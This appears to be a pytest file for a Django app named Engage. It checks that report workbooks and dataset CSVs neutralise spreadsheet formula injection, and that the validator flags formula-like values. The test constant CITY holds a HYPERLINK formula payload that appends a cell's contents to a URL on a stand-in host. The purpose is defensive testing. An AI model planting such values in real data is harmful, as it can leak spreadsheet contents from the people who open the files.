"""No text Engage writes to a spreadsheet becomes a formula (docs/security.md, issue 10 item 9).

The attack: a city named `=HYPERLINK("http://x","y")` became a link in the indicator
workbook and in the network dataset's CSV, then in the coordinator's workbook."""

import csv
import io

import pytest
from openpyxl import load_workbook

from engage.accounts.factories import CityFactory
from engage.cases.factories import CaseFactory
from engage.mel import services
from engage.mel.dataset import rows as dataset
from engage.mel.dataset import submission
from engage.mel.report import render
from engage.mel.report.indicators import baseline_before
from tests.mel.rows import row

pytestmark = pytest.mark.django_db

CITY = '=HYPERLINK("http://x.example/?d="&A1,"y")'


def test_the_report_workbook_holds_the_city_as_text_not_a_formula():
    rows = [row(n, city=CITY, inclusion_month="2024-02") for n in range(1, 12)]
    report = services.report(
        rows,
        start="2024-01",
        end="2024-06",
        pilots=["BG-CLA"],
        level="exact",
        baseline=baseline_before("2024-01", "2024-06"),
    )
    book = load_workbook(io.BytesIO(render.as_xlsx(report)))
    cells = [
        cell
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.value == CITY
    ]
    assert cells, "the city is in the breakdowns"
    assert all(cell.data_type == "s" for cell in cells)
    assert not [
        cell
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]


def test_the_dataset_csv_holds_the_city_behind_a_quote_and_the_hub_refuses_it_raw(
    organisation, alice, tmp_path
):
    city = CityFactory(organisation=organisation, name=CITY)
    CaseFactory(organisation=organisation, case_manager=alice, city=city)
    period = dataset.month(CaseFactory._meta.model.objects.get().referral_date)
    rows = dataset.derive_rows(organisation, period)
    submission.write(tmp_path, organisation.code, period, rows)
    with open(tmp_path / "cases.csv", encoding="utf-8", newline="") as file:
        written = list(csv.DictReader(file))
    assert written[0]["city"] == "'" + CITY
    raw = {**written[0], "city": CITY}
    faults = submission.check_row(raw, organisation.code, period)
    assert ("city", f"{CITY!r} would be read as a spreadsheet formula") in faults
    assert not [
        f for f in submission.check_row(written[0], organisation.code, period) if "formula" in f[1]
    ]
